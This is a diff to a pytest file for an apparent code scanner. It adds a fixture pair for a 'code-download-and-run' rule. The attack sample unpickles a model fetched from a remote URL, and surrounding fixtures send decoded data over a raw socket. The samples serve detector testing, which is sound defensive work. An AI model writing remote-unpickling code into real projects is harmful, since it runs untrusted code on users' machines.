@@ -104,6 +104,17 @@ import socket, base64
 with socket.create_connection(('database.example', 5432)) as line:
     line.sendall(base64.b64decode('R0VUIC9jb21tYW5k'))
 """
+MODEL_OF_THE_HUB = """
+import joblib, pickle
+from huggingface_hub import hf_hub_download
+model = joblib.load(hf_hub_download('some-one/forest', 'model.joblib'))
+with open(hf_hub_download('some-one/forest', 'labels.pkl'), 'rb') as file:
+    labels = pickle.load(file)
+"""
+PICKLE_OF_A_STRANGER = """
+import pickle, requests
+model = pickle.loads(requests.get('https://models.example/model.pkl').content)
+"""
 
 
 @pytest.mark.parametrize(
@@ -118,11 +129,12 @@ with socket.create_connection(('database.example', 5432)) as line:
         (SSH_HELP, SSH_READ, "code-secrets"),
         (PROFILE_HELP, PROFILE_READ, "code-secrets"),
         (UNQUOTED, QUOTED, "code-hidden-text"),
+        (MODEL_OF_THE_HUB, PICKLE_OF_A_STRANGER, "code-download-and-run"),
         (GREETING, HIDDEN_GREETING, "code-hidden-text"),
     ],
 )
 def test_the_honest_twin_is_left_alone(honest: str, attack: str, rule: str) -> None:
     seen = levels(look_at("tool.py", honest))
-    assert rule not in seen
+    assert seen.get(rule, Level.NOTE) is Level.NOTE
     assert Level.HIGH not in seen.values()
     assert rule in levels(look_at("tool.py", attack))
